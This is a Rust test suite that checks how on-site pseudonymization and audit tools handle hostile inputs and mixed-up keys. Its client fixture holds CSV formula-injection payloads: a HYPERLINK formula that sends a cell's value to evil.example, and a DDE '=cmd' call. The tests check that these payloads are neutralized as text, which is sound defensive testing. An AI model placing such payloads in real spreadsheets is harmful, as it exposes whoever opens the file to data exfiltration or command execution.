//! Hostile on-site cases (issues 15 and 16): inputs and key mix-ups that the on-site tools
//! (`clm-pseudonymize`, `clm-audit`) once accepted, each with the behaviour that replaced
//! it. Every fixture is hand-made and synthetic; see tests/hostile/README.md for the list.
//!
//! Built as the `hostile` test of clm-pseudonymize (`cargo test -p clm-pseudonymize --test
//! hostile`).

use std::path::{Path, PathBuf};
use std::process::Command;

use arrow_array::RecordBatch;
use clm_core::bundle::Bundle;
use clm_core::keys::{DataKey, PseudonymKey};
use clm_core::pid::{Domain, Pseudonymizer};
use clm_pseudonymize::csv_cells::looks_like_formula;
use clm_pseudonymize::{export, ExportOptions};

const MAPPING: &str = r#"
[source]
delimiter = ";"
date_format = "DD.MM.YYYY"
decimal_comma = true

[policy]
rare_k = 1
k_anonymity = 1

[tables.clients]
file = "clients.csv"
[tables.clients.fields]
client_id = "Код"
full_name = "ФИО"
phone = { column = "Телефон", normalize = "digits" }
email = "Почта"
birth_date = "Дата рождения"
gender = { column = "Пол", map = { "Ж" = "f", "М" = "m" } }
registered_on = "Регистрация"

[tables.memberships]
file = "memberships.csv"
[tables.memberships.fields]
membership_id = "Номер"
client_id = "Код"
start_date = "Начало"
end_date = "Конец"
price = "Цена"
status = { column = "Статус", map = { "Активен" = "active" } }
"#;

const CLIENTS_HEADER: &str = "Код;ФИО;Телефон;Почта;Дата рождения;Пол;Регистрация\n";

// Line 2: a phone that begins with +. Line 3: a name and an e-mail that are formulas.
// Line 4: a phone "-1+2" (a formula, not a number). Line 5: rejected (31.02 is no date),
// with a DDE formula as its name. Line 6: client 0001 again (a duplicate, registered later).
const CLIENTS: &str = "Код;ФИО;Телефон;Почта;Дата рождения;Пол;Регистрация\n\
0001;Иванова Мария Петровна;+7 (912) 345-67-89;maria@example.com;02.11.1990;Ж;01.02.2024\n\
0002;\"=HYPERLINK(\"\"http://evil.example/\"\"&C3;\"\"x\"\")\";89123456780;@SUM(1+1);01.11.1985;М;01.03.2024\n\
0003;Сидоров Сидор Сидорович;-1+2;sid@example.com;15.06.1980;М;05.05.2024\n\
0004;=cmd|' /C calc'!A0;89120000002;anna@example.com;31.02.1990;Ж;06.06.2024\n\
0001;Иванова Мария (дубль);+7 912 000-00-00;dup@example.com;02.11.1990;Ж;01.02.2025\n";

// M1 twice: the second (line 4) is a duplicate membership id.
const MEMBERSHIPS: &str = "Номер;Код;Начало;Конец;Цена;Статус\n\
M1;0001;01.02.2024;31.01.2025;1500;Активен\n\
M2;0002;01.03.2024;31.03.2024;100;Активен\n\
M1;0003;01.04.2024;30.04.2024;100;Активен\n";

fn as_of() -> chrono::NaiveDate {
    chrono::NaiveDate::from_ymd_opt(2026, 11, 1).unwrap()
}

struct Site {
    _tmp: tempfile::TempDir,
    dir: PathBuf,
    kp: PathBuf,
    kd: PathBuf,
}

impl Site {
    fn new(clients: &[u8]) -> Site {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path().to_path_buf();
        std::fs::write(dir.join("mapping.toml"), MAPPING).unwrap();
        std::fs::write(dir.join("clients.csv"), clients).unwrap();
        std::fs::write(dir.join("memberships.csv"), MEMBERSHIPS).unwrap();
        let (kp, kd) = clm_core::keys::keygen(&dir.join("keys")).unwrap();
        Site {
            _tmp: tmp,
            dir,
            kp,
            kd,
        }
    }

    fn opts(&self, out: &str) -> ExportOptions {
        ExportOptions {
            pseudonym_key: Some(self.kp.clone()),
            data_key: Some(self.kd.clone()),
            as_of: Some(as_of()),
            ..ExportOptions::new(self.dir.join("mapping.toml"), self.dir.join(out))
        }
    }

    fn export_cmd(&self, out: &str) -> Command {
        self.export_cmd_with(&self.kp, &self.kd, out)
    }

    fn export_cmd_with(&self, kp: &Path, kd: &Path, out: &str) -> Command {
        let mut c = bin();
        c.arg("export")
            .arg("--mapping")
            .arg(self.dir.join("mapping.toml"))
            .arg("--pseudonym-key")
            .arg(kp)
            .arg("--data-key")
            .arg(kd)
            .args(["--as-of", "2026-11-01", "--quiet", "--out"])
            .arg(self.dir.join(out));
        c
    }

    fn pid(&self, id: &str) -> String {
        Pseudonymizer::new(&PseudonymKey::load(&self.kp).unwrap()).pid(Domain::Client, id)
    }

    fn audit(&self, bundle: &Path, with_source: bool) -> clm_audit::report::Report {
        let mut o = clm_audit::Options::new(bundle);
        o.data_key = Some(self.kd.clone());
        o.threads = 1;
        if with_source {
            o.mapping = Some(self.dir.join("mapping.toml"));
            o.pseudonym_key = Some(self.kp.clone());
        }
        clm_audit::audit(&o).unwrap()
    }
}

fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_clm-pseudonymize"));
    c.env_remove("CLM_PSEUDONYM_KEY").env_remove("CLM_DATA_KEY");
    c
}

fn run(cmd: &mut Command) -> (Option<i32>, String, String) {
    let o = cmd.output().unwrap();
    (
        o.status.code(),
        String::from_utf8_lossy(&o.stdout).to_string(),
        String::from_utf8_lossy(&o.stderr).to_string(),
    )
}

fn check_of<'a>(
    r: &'a clm_audit::report::Report,
    name: &str,
) -> &'a clm_audit::report::CheckReport {
    r.checks.iter().find(|c| c.name == name).unwrap()
}

fn detectors(c: &clm_audit::report::CheckReport) -> Vec<String> {
    c.findings.iter().map(|f| f.detector.clone()).collect()
}

/// Rows of a `;`-separated CSV (UTF-8, with or without a BOM).
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let text = text.trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn all_batches(b: &Bundle, table: &str) -> Vec<RecordBatch> {
    b.read_table(table).map(|r| r.unwrap()).collect()
}

// ---- 16.5 / 15: one key as both keys ------------------------------------------------

#[test]
fn export_refuses_the_data_key_as_pseudonymization_key() {
    let s = Site::new(CLIENTS.as_bytes());
    let mut c2 = s.export_cmd_with(&s.kd, &s.kd, "bundle");
    let (code, _, err) = run(&mut c2);
    assert_eq!(code, Some(1), "{err}");
    assert!(err.contains("are the same key"), "{err}");
    assert!(!s.dir.join("bundle").exists());
    assert!(!s.dir.join(".bundle.clm-partial").exists());
}

#[test]
fn rewrap_and_rotate_refuse_the_pseudonymization_key_as_new_data_key() {
    let s = Site::new(CLIENTS.as_bytes());
    export(&s.opts("bundle")).unwrap();
    let before = std::fs::read(s.dir.join("bundle/manifest.json")).unwrap();
    for cmd in ["rewrap", "rotate"] {
        let mut c = bin();
        c.arg(cmd)
            .arg("--bundle")
            .arg(s.dir.join("bundle"))
            .arg("--data-key")
            .arg(&s.kd)
            .arg("--new-data-key")
            .arg(&s.kp);
        if cmd == "rotate" {
            c.arg("--out").arg(s.dir.join("rotated"));
        }
        let (code, out, err) = run(&mut c);
        assert_eq!(code, Some(1), "{cmd}: {out}{err}");
        assert!(
            err.contains(
                "the new data key and this bundle's pseudonymization key are the same key"
            ),
            "{cmd}: {err}"
        );
    }
    assert_eq!(
        std::fs::read(s.dir.join("bundle/manifest.json")).unwrap(),
        before
    );
    assert!(!s.dir.join("rotated").exists());
}

#[test]
fn the_audit_fails_a_manifest_with_one_key_for_both() {
    let s = Site::new(CLIENTS.as_bytes());
    export(&s.opts("bundle")).unwrap();
    assert_eq!(
        check_of(&s.audit(&s.dir.join("bundle"), false), "integrity").status,
        clm_audit::report::Status::Pass
    );
    // What an exporter without the refusal wrote: K_p's fingerprint equal to K_d's, sealed.
    let kd = DataKey::load(&s.kd).unwrap();
    let b = Bundle::open(&s.dir.join("bundle"), &kd).unwrap();
    let mut m = b.manifest().clone();
    m.pseudonym_key_fingerprint = m.data_key_fingerprint.clone();
    std::fs::write(s.dir.join("bundle/manifest.json"), m.seal(b.dek())).unwrap();
    let r = s.audit(&s.dir.join("bundle"), false);
    let integrity = check_of(&r, "integrity");
    assert_eq!(integrity.status, clm_audit::report::Status::Fail);
    assert_eq!(detectors(integrity), ["same_key"]);
    assert!(integrity.findings[0].detail.contains("same fingerprint"));
    assert!(!r.passed());
}

// ---- 16.3: formula injection ----------------------------------------------------------

#[test]
fn source_values_that_look_like_formulas_are_text_in_the_call_list() {
    let s = Site::new(CLIENTS.as_bytes());
    export(&s.opts("bundle")).unwrap();
    let list = s.dir.join("list.csv");
    std::fs::write(
        &list,
        format!(
            "client_pid;action\n{};call\n{};call\n{};call\n",
            s.pid("0001"),
            s.pid("0002"),
            s.pid("0003")
        ),
    )
    .unwrap();
    let out = s.dir.join("calls.csv");
    let (code, stdout, err) = run(bin()
        .arg("reidentify")
        .arg("--mapping")
        .arg(s.dir.join("mapping.toml"))
        .arg("--pseudonym-key")
        .arg(&s.kp)
        .arg("--pids")
        .arg(&list)
        .arg("--out")
        .arg(&out));
    assert_eq!(code, Some(0), "{stdout}{err}");
    let rows = csv_rows(&std::fs::read(&out).unwrap());
    assert_eq!(
        rows[0],
        [
            "client_pid",
            "action",
            "full_name",
            "phone",
            "email",
            "found"
        ]
    );
    // The first row of the source for 0001 (the export keeps that one too).
    assert_eq!(
        rows[1][2..],
        [
            "Иванова Мария Петровна",
            "'+7 (912) 345-67-89",
            "maria@example.com",
            "yes"
        ]
    );
    assert_eq!(
        rows[2][2..],
        [
            "'=HYPERLINK(\"http://evil.example/\"&C3;\"x\")",
            "89123456780",
            "'@SUM(1+1)",
            "yes"
        ]
    );
    assert_eq!(rows[3][3], "'-1+2");
    for cell in rows.iter().flatten() {
        assert!(!looks_like_formula(cell), "a formula in the call list");
    }
    assert!(
        stdout.contains("4 cells of the source clients table (names, phones, e-mails) began like a spreadsheet formula"),
        "{stdout}"
    );
}

// ---- 16.7 + 16.3: rejected rows -------------------------------------------------------

#[test]
fn rejected_rows_are_private_neutralized_and_announced() {
    let s = Site::new(CLIENTS.as_bytes());
    let (code, out, err) = run(&mut s.export_cmd("bundle"));
    assert_eq!(code, Some(0), "{out}{err}");
    let rej = s.dir.join("clients.rejected.csv");
    assert!(
        out.contains(&format!(
            "rejected rows kept on site in {} (personal data, mode 0600, UTF-8)",
            rej.display()
        )),
        "{out}"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&rej).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "mode {mode:o}");
    }
    let rows = csv_rows(&std::fs::read(&rej).unwrap());
    assert_eq!(rows[1][0], "5");
    assert_eq!(rows[1][3], "'=cmd|' /C calc'!A0", "the DDE name is text");
    for cell in rows.iter().flatten() {
        assert!(!looks_like_formula(cell), "a formula in the rejected rows");
    }
}

#[test]
fn rejected_rows_of_a_cp1251_source_are_cp1251() {
    let (bytes, _, _) = encoding_rs::WINDOWS_1251.encode(CLIENTS);
    let s = Site::new(&bytes);
    let (code, out, err) = run(&mut s.export_cmd("bundle"));
    assert_eq!(code, Some(0), "{out}{err}");
    assert!(
        out.contains("(personal data, mode 0600, windows-1251)"),
        "{out}"
    );
    let raw = std::fs::read(s.dir.join("clients.rejected.csv")).unwrap();
    assert!(std::str::from_utf8(&raw).is_err(), "not UTF-8");
    let (text, _, bad) = encoding_rs::WINDOWS_1251.decode(&raw);
    assert!(!bad);
    assert!(text.contains("anna@example.com"));
    assert!(
        text.contains("Дата рождения"),
        "the header, in Windows-1251"
    );
    assert!(text.contains("Иванова Мария (дубль)"));
}

// ---- 15: duplicate ids ----------------------------------------------------------------

#[test]
fn duplicate_ids_keep_the_first_row_and_reject_the_others() {
    let s = Site::new(CLIENTS.as_bytes());
    let sum = export(&s.opts("bundle")).unwrap();
    let m = &sum.manifest;
    let cl = m.sources.iter().find(|e| e.table == "clients").unwrap();
    // 5 rows: 0004 has no valid birth date, line 6 repeats 0001.
    assert_eq!((cl.rows_in, cl.rows_out, cl.rows_rejected), (5, 3, 2));
    assert_eq!(
        cl.rejected_by_reason.get("client_id: duplicate client id"),
        Some(&1)
    );
    let ms = m.sources.iter().find(|e| e.table == "memberships").unwrap();
    assert_eq!((ms.rows_in, ms.rows_out, ms.rows_rejected), (3, 2, 1));
    assert_eq!(
        ms.rejected_by_reason
            .get("membership_id: duplicate membership id"),
        Some(&1)
    );
    assert!(m
        .generalizations
        .iter()
        .any(|g| g.starts_with("clients: one row per client_id: the first row of the file")));
    // The row kept for 0001 is the first: registered 01.02.2024, not 01.02.2025.
    let b = Bundle::open(&s.dir.join("bundle"), &DataKey::load(&s.kd).unwrap()).unwrap();
    let batches = all_batches(&b, "clients");
    let c = &batches[0];
    use arrow_array::cast::AsArray;
    let pids: Vec<&str> = c
        .column_by_name("client_pid")
        .unwrap()
        .as_string::<i32>()
        .iter()
        .map(|v| v.unwrap())
        .collect();
    assert_eq!(pids, [s.pid("0001"), s.pid("0002"), s.pid("0003")]);
    let reg = c
        .column_by_name("registered_on")
        .unwrap()
        .as_primitive::<arrow_array::types::Date32Type>();
    assert_eq!(
        clm_core::values::days_to_date(reg.value(0))
            .unwrap()
            .to_string(),
        "2024-02-01"
    );
    // The duplicate is kept on site with its reason and line.
    let rows = csv_rows(&std::fs::read(s.dir.join("clients.rejected.csv")).unwrap());
    assert_eq!(rows[2][..2], ["6", "client_id: duplicate client id"]);
    let rows = csv_rows(&std::fs::read(s.dir.join("memberships.rejected.csv")).unwrap());
    assert_eq!(
        rows[1][..2],
        ["4", "membership_id: duplicate membership id"]
    );
}

// ---- 16.4: rotation -------------------------------------------------------------------

#[test]
fn rotate_makes_the_old_key_useless_and_keeps_the_data() {
    let s = Site::new(CLIENTS.as_bytes());
    export(&s.opts("bundle")).unwrap();
    let (_, new_kd) = clm_core::keys::keygen(&s.dir.join("newkeys")).unwrap();
    let (code, out, err) = run(bin()
        .arg("rotate")
        .arg("--bundle")
        .arg(s.dir.join("bundle"))
        .arg("--data-key")
        .arg(&s.kd)
        .arg("--new-data-key")
        .arg(&new_kd)
        .arg("--out")
        .arg(s.dir.join("rotated")));
    assert_eq!(code, Some(0), "{out}{err}");
    let old = DataKey::load(&s.kd).unwrap();
    let new = DataKey::load(&new_kd).unwrap();
    let e = Bundle::open(&s.dir.join("rotated"), &old)
        .unwrap_err()
        .to_string();
    assert!(e.contains("data key"), "{e}");
    let a = Bundle::open(&s.dir.join("bundle"), &old).unwrap();
    let b = Bundle::open(&s.dir.join("rotated"), &new).unwrap();
    b.verify_files().unwrap();
    assert_ne!(a.dek().as_bytes(), b.dek().as_bytes(), "a new DEK");
    assert_eq!(a.manifest().export_id, b.manifest().export_id);
    assert_eq!(a.manifest().sources, b.manifest().sources);
    for t in a.tables() {
        assert_eq!(all_batches(&a, &t), all_batches(&b, &t), "{t}");
        for (x, y) in a.table_entries(&t).iter().zip(b.table_entries(&t)) {
            assert_eq!(x.rows, y.rows);
            assert_ne!(x.sha256, y.sha256, "{t}: the file was encrypted again");
        }
    }
    // The rotated bundle passes the audit, leak check included.
    let mut o = clm_audit::Options::new(s.dir.join("rotated"));
    o.data_key = Some(new_kd.clone());
    o.mapping = Some(s.dir.join("mapping.toml"));
    o.pseudonym_key = Some(s.kp.clone());
    o.threads = 1;
    o.k = 1; // three clients: k-anonymity at 5 is not what this is about
    let r = clm_audit::audit(&o).unwrap();
    assert!(r.passed(), "{}", r.render_text());
    // Whoever kept the old key and an old manifest has the old DEK: it decrypts none of
    // the rotated files (read directly, around every check of the bundle reader).
    let old_dek = a.dek().as_bytes().to_vec();
    for f in &b.manifest().files {
        let file = std::fs::File::open(s.dir.join("rotated").join(&f.path)).unwrap();
        let props =
            parquet::encryption::decrypt::FileDecryptionProperties::builder(old_dek.clone())
                .build()
                .unwrap();
        let opened =
            parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder::try_new_with_options(
                file,
                parquet::arrow::arrow_reader::ArrowReaderOptions::new()
                    .with_file_decryption_properties(props),
            );
        assert!(opened.is_err(), "{}: the old DEK opened it", f.path);
    }
    // And the old manifest copied in opens nothing either.
    std::fs::copy(
        s.dir.join("bundle/manifest.json"),
        s.dir.join("rotated/manifest.json"),
    )
    .unwrap();
    let e = Bundle::open(&s.dir.join("rotated"), &old)
        .unwrap_err()
        .to_string();
    assert!(e.contains("SHA-256 mismatch"), "{e}");
}

#[test]
fn rewrap_does_not_revoke_as_its_help_says() {
    let s = Site::new(CLIENTS.as_bytes());
    export(&s.opts("bundle")).unwrap();
    let old_manifest = std::fs::read(s.dir.join("bundle/manifest.json")).unwrap();
    let (_, new_kd) = clm_core::keys::keygen(&s.dir.join("newkeys")).unwrap();
    let (code, out, err) = run(bin()
        .arg("rewrap")
        .arg("--bundle")
        .arg(s.dir.join("bundle"))
        .arg("--data-key")
        .arg(&s.kd)
        .arg("--new-data-key")
        .arg(&new_kd));
    assert_eq!(code, Some(0), "{out}{err}");
    assert!(out.contains("use `rotate` instead"), "{out}");
    let (_, help, _) = run(bin().args(["rewrap", "--help"]));
    assert!(help.contains("does NOT make the old key useless"), "{help}");
    // What the help warns of: the old manifest and the old key still open the files.
    std::fs::write(s.dir.join("bundle/manifest.json"), old_manifest).unwrap();
    let b = Bundle::open(&s.dir.join("bundle"), &DataKey::load(&s.kd).unwrap()).unwrap();
    b.verify_files().unwrap();
    assert!(b.read_table("clients").all(|r| r.is_ok()));
}

// ---- 16.8: smaller ones ---------------------------------------------------------------

#[test]
fn the_audit_finds_workbook_sources_among_the_export_s_sources() {
    use rust_xlsxwriter::Workbook;
    let s = Site::new(CLIENTS.as_bytes());
    let mut wb = Workbook::new();
    let sh = wb.add_worksheet();
    sh.set_name("clients").unwrap();
    let rows = [
        ["Код", "ФИО", "Регистрация"],
        ["0001", "Иванова Мария Петровна", "01.02.2024"],
        ["0002", "Петров Пётр Петрович", "01.03.2024"],
    ];
    for (r, row) in rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            sh.write_string(r as u32, c as u16, *v).unwrap();
        }
    }
    wb.save(s.dir.join("club.xlsx")).unwrap();
    std::fs::write(
        s.dir.join("mapping.toml"),
        "[source]\ndate_format = \"DD.MM.YYYY\"\n[policy]\nrare_k = 1\nk_anonymity = 1\n\
         [tables.clients]\nfile = \"club.xlsx\"\nsheet = \"clients\"\n[tables.clients.fields]\n\
         client_id = \"Код\"\nfull_name = \"ФИО\"\nregistered_on = \"Регистрация\"\n",
    )
    .unwrap();
    let sum = export(&s.opts("bundle")).unwrap();
    assert_eq!(sum.manifest.sources[0].file, "club.xlsx [clients]");
    let r = s.audit(&s.dir.join("bundle"), true);
    let leak = check_of(&r, "leak");
    assert_eq!(leak.status, clm_audit::report::Status::Pass);
    assert!(
        leak.notes
            .iter()
            .all(|n| !n.contains("not among the export's sources")),
        "{:?}",
        leak.notes
    );
}

#[cfg(unix)]
#[test]
fn a_file_size_limit_is_an_error_with_a_message_and_leaves_nothing() {
    use std::os::unix::process::CommandExt;
    let mut text = String::from(CLIENTS_HEADER);
    for i in 0..3000 {
        text.push_str(&format!(
            "{i:05};Клиент Номер {i};8912{i:07};c{i}@example.com;01.01.1990;Ж;01.02.2024\n"
        ));
    }
    let s = Site::new(text.as_bytes());
    let mut c = s.export_cmd("bundle");
    // SAFETY: setrlimit between fork and exec touches only the child's own limits.
    unsafe {
        c.pre_exec(|| {
            let lim = libc::rlimit {
                rlim_cur: 16 * 1024,
                rlim_max: 16 * 1024,
            };
            if libc::setrlimit(libc::RLIMIT_FSIZE, &lim) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let (code, out, err) = run(&mut c);
    assert_eq!(code, Some(1), "not killed by SIGXFSZ: {out}{err}");
    assert!(err.starts_with("clm-pseudonymize: error: "), "{err}");
    assert!(err.contains("ulimit -f"), "{err}");
    assert!(!s.dir.join("bundle").exists());
    assert!(
        !s.dir.join(".bundle.clm-partial").exists(),
        "staging removed"
    );
}

#[test]
fn a_stale_staging_directory_is_removed_and_said_so() {
    let s = Site::new(CLIENTS.as_bytes());
    let stale = s.dir.join(".bundle.clm-partial");
    std::fs::create_dir(&stale).unwrap();
    std::fs::write(stale.join(".clm-partial"), "an unfinished clm export\n").unwrap();
    std::fs::write(stale.join("clients.parquet.tmp"), "half a file").unwrap();
    let (code, out, err) = run(&mut s.export_cmd("bundle"));
    assert_eq!(code, Some(0), "{out}{err}");
    assert!(
        out.contains(&format!(
            "removed {}, left by an earlier export that did not finish",
            stale.display()
        )),
        "{out}"
    );
    assert!(!stale.exists());
}

#[test]
fn out_naming_a_file_says_so() {
    let s = Site::new(CLIENTS.as_bytes());
    std::fs::write(s.dir.join("bundle"), "not a directory").unwrap();
    let (code, _, err) = run(&mut s.export_cmd("bundle"));
    assert_eq!(code, Some(1));
    assert!(err.contains("is a file, not a directory"), "{err}");
    assert!(!err.contains("not an empty directory"), "{err}");
}

#[test]
fn an_empty_clients_table_fails_the_export_and_the_audit() {
    let s = Site::new(CLIENTS_HEADER.as_bytes());
    let (code, out, err) = run(&mut s.export_cmd("bundle"));
    assert_eq!(code, Some(1), "{out}{err}");
    assert!(err.contains("the clients table is empty"), "{err}");
    assert!(err.contains("--allow-empty"), "{err}");
    assert!(!s.dir.join("bundle").exists());
    let (code, out, err) = run(s.export_cmd("bundle").arg("--allow-empty"));
    assert_eq!(code, Some(0), "{out}{err}");
    let r = s.audit(&s.dir.join("bundle"), false);
    let schema = check_of(&r, "schema");
    assert_eq!(schema.status, clm_audit::report::Status::Fail);
    assert!(detectors(schema).contains(&"empty_table".to_string()));
    assert!(!r.passed());
}

#[test]
fn a_pids_file_in_a_wrong_encoding_is_about_the_list_not_the_mapping() {
    let s = Site::new(CLIENTS.as_bytes());
    // A Windows-1251 header over UTF-8 rows: read as UTF-8, the header is not valid.
    let mut list = encoding_rs::WINDOWS_1251
        .encode("client_pid;действие\n")
        .0
        .into_owned();
    for _ in 0..50 {
        list.extend_from_slice(format!("{};позвонить клиенту\n", s.pid("0001")).as_bytes());
    }
    std::fs::write(s.dir.join("list.csv"), list).unwrap();
    let (code, out, err) = run(bin()
        .arg("reidentify")
        .arg("--mapping")
        .arg(s.dir.join("mapping.toml"))
        .arg("--pseudonym-key")
        .arg(&s.kp)
        .arg("--pids")
        .arg(s.dir.join("list.csv"))
        .arg("--out")
        .arg(s.dir.join("calls.csv")));
    assert_eq!(code, Some(1), "{out}{err}");
    assert!(err.contains("list.csv"), "{err}");
    assert!(err.contains("save it again as \"CSV UTF-8\""), "{err}");
    assert!(!err.contains("set `encoding` in the mapping"), "{err}");
    assert!(!s.dir.join("calls.csv").exists());
}

// ---- 15: messages ---------------------------------------------------------------------

#[test]
fn errors_carry_the_tool_prefix() {
    let s = Site::new(CLIENTS.as_bytes());
    let (code, _, err) = run(bin()
        .arg("export")
        .arg("--mapping")
        .arg(s.dir.join("no-such-mapping.toml"))
        .arg("--out")
        .arg(s.dir.join("bundle")));
    assert_eq!(code, Some(1));
    assert!(err.starts_with("clm-pseudonymize: error: "), "{err}");
}

#[test]
fn check_lists_the_problems_then_how_many_passed() {
    let s = Site::new(CLIENTS.as_bytes());
    let q = clm_pseudonymize::check::check(&clm_pseudonymize::check::CheckOptions {
        mapping: s.dir.join("mapping.toml"),
        as_of: Some(as_of()),
        progress: false,
    })
    .unwrap();
    let checks = q.checks();
    use clm_pseudonymize::quality::Level;
    let passed = checks.iter().filter(|c| c.level == Level::Pass).count();
    let problems = checks.len() - passed;
    assert!(passed > 0 && problems > 0, "the fixture has both");
    let short = clm_pseudonymize::check::render(&q, false);
    let all = clm_pseudonymize::check::render(&q, true);
    let level_rows = |t: &str, l: &str| {
        t.lines()
            .filter(|line| line.split_whitespace().nth(2) == Some(l))
            .count()
    };
    assert_eq!(level_rows(&short, "pass"), 0, "{short}");
    assert_eq!(
        level_rows(&short, "fail") + level_rows(&short, "warn"),
        problems,
        "{short}"
    );
    assert!(
        short.contains(&format!("{passed} checks passed (--all shows them)")),
        "{short}"
    );
    assert_eq!(level_rows(&all, "pass"), passed, "{all}");
    // Not on a terminal (as here), the binary lists every check, as before.
    let (_, out, _) = run(bin()
        .arg("check")
        .arg("--mapping")
        .arg(s.dir.join("mapping.toml"))
        .args(["--as-of", "2026-11-01", "--quiet"]));
    assert_eq!(level_rows(&out, "pass"), passed, "{out}");
}
